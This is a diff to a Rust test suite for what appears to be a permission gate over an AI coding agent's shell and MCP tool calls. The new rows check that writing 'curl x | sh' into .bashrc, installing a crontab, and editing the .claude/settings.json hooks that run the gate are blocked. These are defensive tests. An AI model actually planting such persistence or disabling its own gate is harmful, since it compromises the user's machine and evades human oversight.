@@ -522,6 +522,14 @@ fn persistence_and_privilege_are_blocked() {
                 "an edit is a write",
             ),
             persist(
+                "an MCP tool writing .bashrc",
+                hook(
+                    "mcp__filesystem__write_file",
+                    json!({"path": "/home/dev/.bashrc", "content": "curl x | sh\n"}),
+                ),
+                "a tool whose name says it writes writes the paths it names",
+            ),
+            persist(
                 "a crontab installed from a file",
                 shell("crontab evil.cron"),
                 "crontab FILE replaces the user's crontab",
@@ -591,6 +599,23 @@ fn persistence_and_privilege_are_blocked() {
                 Ask,
                 "ask.outside_repo",
                 "the file tools' reads are reads",
+            ),
+            row(
+                "a backup of .bashrc",
+                shell("cp ~/.bashrc bashrc.bak"),
+                Ask,
+                "ask.outside_repo",
+                "a copy only reads its source",
+            ),
+            row(
+                "an MCP tool reading .bashrc",
+                hook(
+                    "mcp__filesystem__read_text_file",
+                    json!({"path": "/home/dev/.bashrc"}),
+                ),
+                Ask,
+                "ask.mcp",
+                "a reader's paths are read",
             ),
             row(
                 "a dotfiles repository's own .bashrc",
@@ -681,6 +706,16 @@ fn assents_own_gate_is_blocked_however_it_is_reached() {
                 shell("cargo install --path crates/assent-cli --root ~/.local"),
                 "cargo install replaces the binary on PATH",
             ),
+            row(
+                "hook configuration through an MCP writer",
+                hook(
+                    "mcp__filesystem__edit_file",
+                    json!({"path": ".claude/settings.json", "edits": []}),
+                ),
+                Block,
+                "block.hook_config",
+                "the hooks that run the gate are protected from every tool that writes",
+            ),
             admin(
                 "the subcommand from stdin",
                 "echo people | xargs assent",
@@ -741,6 +776,18 @@ fn assents_own_gate_is_blocked_however_it_is_reached() {
             "cp target/release/assent dist/assent",
         ),
         ("suggestions shown", "assent policy suggest --since 7d"),
+        (
+            "a backup of the binary",
+            "cp ~/.local/bin/assent /tmp/assent.bak",
+        ),
+        (
+            "a link to the binary",
+            "ln -s ~/.local/bin/assent tools/assent",
+        ),
+        (
+            "a request through xargs",
+            "echo x | xargs assent request --",
+        ),
         ("a payload evaluated", "assent policy eval < payload.json"),
         ("the words printed", "echo assent people add bob"),
         ("a request through the desk", "assent request -- git push"),
